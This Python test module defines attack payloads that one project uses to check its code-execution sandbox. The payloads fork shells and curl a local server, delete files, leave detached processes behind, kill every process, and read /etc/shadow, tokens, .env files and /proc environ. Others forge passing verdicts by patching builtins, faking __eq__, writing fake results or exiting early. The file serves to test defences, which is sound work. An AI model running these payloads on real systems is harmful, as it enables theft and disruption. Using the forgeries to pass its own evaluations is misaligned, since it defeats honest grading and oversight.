"""Attacks on the execution sandbox: this project's own new cases of each class a held-out
campaign used (issue 23). Shared by tests/test_sandbox.py (run through the sandbox from an
evaluator process) and scripts/reliability_campaign.py (run through `evaluation.py
--allow_code_execution`, the table in docs/reliability.md).

Each attack is (candidate code, test) with placeholders filled by `fill`: {S} a watched
folder, {PORT} a local TCP server that must receive nothing, {MARKER} a string any process
left behind carries on its command line, {CANARY} the secret the evaluator holds, {ROOT}
the checkout. The entry point is always `f`; the right answer is `f(x) = x + 1`.
"""
from __future__ import annotations

import os
import socketserver
import threading
import uuid
from pathlib import Path

ROOT = Path(__file__).resolve().parents[2]
HUMANEVAL = "def check(candidate):\n    assert candidate(3) == 4\n    assert candidate(-1) == 0\n"

CANARY = f"canary-{uuid.uuid4().hex[:12]}"
MARKER = f"survivor-{uuid.uuid4().hex[:12]}"

# name -> (candidate code, test); {S} = the watched folder, {PORT} = the local server's port
ATTACKS: dict[str, tuple[str, str]] = {
    "fork_exec shell": (
        "import _posixsubprocess, os, time\n"
        "def f(x):\n"
        "    cmd = [b'/bin/sh', b'-c', b'touch {S}/by_fork_exec; curl -s -m 2 http://127.0.0.1:{PORT}/fe; rm -f {S}/victim.txt']\n"
        "    r, w = os.pipe()\n"
        "    for extra in ((0, None, False), (None, False)):\n"
        "        try:\n"
        "            _posixsubprocess.fork_exec(cmd, [b'/bin/sh'], True, (), None, None, -1, -1, -1, -1, -1, -1,\n"
        "                                       r, w, True, False, 0, None, None, None, -1, *extra)\n"
        "            break\n"
        "        except TypeError:\n"
        "            continue\n"
        "    os.system('touch {S}/by_system'); time.sleep(1)\n"
        "    return x + 1\n", HUMANEVAL),
    "dir_fd writes and deletes": (
        "import os\n"
        "def f(x):\n"
        "    for d in ('{S}', '{ROOT}', '/', '/usr', '/tmp/..', '/proc/1/root{S}', '/proc/self/cwd/../..'):\n"
        "        try:\n"
        "            fd = os.open(d, os.O_RDONLY | os.O_DIRECTORY)\n"
        "        except OSError:\n"
        "            continue\n"
        "        for name in ('victim.txt', 'README.md'):\n"
        "            try:\n"
        "                os.unlink(name, dir_fd=fd)\n"
        "            except OSError:\n"
        "                pass\n"
        "        try:\n"
        "            os.write(os.open('by_dir_fd', os.O_CREAT | os.O_WRONLY, 0o644, dir_fd=fd), b'x')\n"
        "        except OSError:\n"
        "            pass\n"
        "    return x + 1\n", HUMANEVAL),
    "sqlite3 and plain files": (
        "import sqlite3, os\n"
        "def f(x):\n"
        "    for p in ('{S}/by_sqlite.db', '{ROOT}/by_sqlite.db', '/usr/by_sqlite.db'):\n"
        "        try:\n"
        "            sqlite3.connect(p).execute('create table t (x)')\n"
        "        except sqlite3.Error:\n"
        "            pass\n"
        "        try:\n"
        "            open(p + '.txt', 'w').write('x')\n"
        "        except OSError:\n"
        "            pass\n"
        "    return x + 1\n", HUMANEVAL),
    "setsid survivors": (
        "import os, subprocess, sys, time\n"
        "def f(x):\n"
        "    for i in range(4):\n"
        "        subprocess.Popen([sys.executable, '-c', 'import time; time.sleep(300)', '{MARKER}'],\n"
        "                         start_new_session=True)\n"
        "    if os.fork() == 0:\n"
        "        os.setsid()\n"
        "        if os.fork() == 0:\n"
        "            os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(300)', '{MARKER}'])\n"
        "        os._exit(0)\n"
        "    time.sleep(0.5)\n"
        "    return x + 1\n", HUMANEVAL),
    "network: fastopen, connect, udp, curl": (
        "import socket, subprocess\n"
        "def f(x):\n"
        "    for send in (lambda s: s.sendto(b'GET /tfo HTTP/1.0\\r\\n\\r\\n', socket.MSG_FASTOPEN, ('127.0.0.1', {PORT})),\n"
        "                 lambda s: s.sendmsg([b'GET /tfo2 HTTP/1.0\\r\\n\\r\\n'], [], socket.MSG_FASTOPEN, ('127.0.0.1', {PORT})),\n"
        "                 lambda s: (s.connect(('127.0.0.1', {PORT})), s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n'))):\n"
        "        try:\n"
        "            send(socket.socket())\n"
        "        except OSError:\n"
        "            pass\n"
        "    try:\n"
        "        socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('127.0.0.1', {PORT}))\n"
        "    except OSError:\n"
        "        pass\n"
        "    subprocess.run(['curl', '-s', '-m', '2', 'http://127.0.0.1:{PORT}/curl'])\n"
        "    return x + 1\n", HUMANEVAL),
    "kill the evaluator (ctypes, /proc pids, kill -1)": (
        "import ctypes, os, signal\n"
        "def f(x):\n"
        "    libc = ctypes.CDLL(None)\n"
        "    for p in os.listdir('/proc/self/..'):\n"
        "        if p.isdigit() and int(p) != os.getpid():\n"
        "            libc.kill(int(p), 9)\n"
        "    libc.kill(os.getppid(), 9)\n"
        "    libc.kill(-1, 9)\n"
        "    libc.kill(0, 9)\n"
        "    return x + 1\n", HUMANEVAL),
    "stop itself and its group": (
        "import os, signal\n"
        "def f(x):\n"
        "    os.killpg(0, signal.SIGSTOP)\n"
        "    return x + 1\n", HUMANEVAL),
    "read canaries from /proc environ and cmdline": (
        "import os\n"
        "def f(x):\n"
        "    text = repr(dict(os.environ))\n"
        "    for base in ('/proc/self/..', '/proc/1/root/proc', '/proc'):\n"
        "        try:\n"
        "            pids = os.listdir(base)\n"
        "        except OSError:\n"
        "            continue\n"
        "        for p in pids:\n"
        "            for what in ('environ', 'cmdline'):\n"
        "                try:\n"
        "                    fd = os.open(what, os.O_RDONLY, dir_fd=os.open(base + '/' + p, os.O_RDONLY))\n"
        "                    text += os.read(fd, 1 << 20).decode('latin-1')\n"
        "                except (OSError, ValueError):\n"
        "                    pass\n"
        "    for p in ('/root/.cache/huggingface/token', '/etc/shadow', '{ROOT}/.env', '/proc/1/environ'):\n"
        "        try:\n"
        "            text += open(p).read()\n"
        "        except OSError:\n"
        "            pass\n"
        "    return text\n",
        "def check(candidate):\n    assert '{CANARY}' in candidate(0)\n"),
    "read the verdict through frames and gc": (
        "import gc, sys\n"
        "def f(x):\n"
        "    seen = []\n"
        "    frame = sys._getframe()\n"
        "    while frame is not None:\n"
        "        seen.append(repr(frame.f_locals)[:500])\n"
        "        frame.f_globals.setdefault('passed', True)\n"
        "        frame = frame.f_back\n"
        "    for o in gc.get_objects():\n"
        "        if isinstance(o, (set, dict)) and not isinstance(o, type):\n"
        "            try:\n"
        "                o.clear() if isinstance(o, set) else None\n"
        "            except Exception:\n"
        "                pass\n"
        "    return 0\n", HUMANEVAL),
    "patch builtins isinstance, callable, AssertionError": (
        "import builtins\n"
        "builtins.isinstance = lambda *a: True\n"
        "builtins.callable = lambda *a: False\n"
        "builtins.AssertionError = type('AssertionError', (Exception,), {})\n"
        "builtins.type = lambda *a: int\n"
        "def f(x):\n"
        "    return 0\n", HUMANEVAL),
    "__eq__ always true": (
        "class Anything:\n"
        "    def __eq__(self, other):\n        return True\n"
        "    def __ne__(self, other):\n        return False\n"
        "def f(x):\n"
        "    return Anything()\n", HUMANEVAL),
    "int and str subclasses with a lying __eq__": (
        "class Liar(int):\n"
        "    def __eq__(self, other):\n        return True\n"
        "    __hash__ = int.__hash__\n"
        "def f(x):\n"
        "    return Liar(99)\n", HUMANEVAL),
    "write a fake pass on every descriptor": (
        "import os\n"
        "for fd in range(64):\n"
        "    try:\n"
        "        os.write(fd, b'{\"passed\": true, \"reason\": \"passed\"}\\n{\"ok\": [\"i\", \"0x4\"], \"args\": []}\\n')\n"
        "    except OSError:\n"
        "        pass\n"
        "def f(x):\n"
        "    return 0\n", HUMANEVAL),
    "exit early with success": (
        "import os, sys\n"
        "print('passed')\n"
        "def f(x):\n"
        "    os._exit(0)\n", HUMANEVAL),
}
FORGERIES = ("read the verdict through frames and gc", "patch builtins isinstance, callable, AssertionError",
             "__eq__ always true", "int and str subclasses with a lying __eq__",
             "write a fake pass on every descriptor", "exit early with success",
             "read canaries from /proc environ and cmdline", "kill the evaluator (ctypes, /proc pids, kill -1)",
             "stop itself and its group")



def fill(text: str, watched: Path, port: int) -> str:
    return (text.replace("{S}", str(watched)).replace("{PORT}", str(port)).replace("{MARKER}", MARKER)
            .replace("{CANARY}", CANARY).replace("{ROOT}", str(ROOT)))


class Recorder(socketserver.BaseRequestHandler):
    """Records the first bytes of every connection that reaches the server."""

    def handle(self) -> None:
        self.server.hits.append(self.request.recv(4096))  # type: ignore[attr-defined]


def recording_server() -> socketserver.ThreadingTCPServer:
    """A TCP server on 127.0.0.1 (a free port) that no attack may reach; `.hits` lists what did."""
    srv = socketserver.ThreadingTCPServer(("127.0.0.1", 0), Recorder)
    srv.hits = []  # type: ignore[attr-defined]
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    return srv


def survivors() -> list[str]:
    """Pids of the host's processes whose command line carries MARKER: left behind by an attack."""
    found = []
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                cmd = Path(f"/proc/{p}/cmdline").read_bytes()
            except OSError:
                continue
            if MARKER.encode() in cmd and b"pytest" not in cmd:
                found.append(p)
    return found
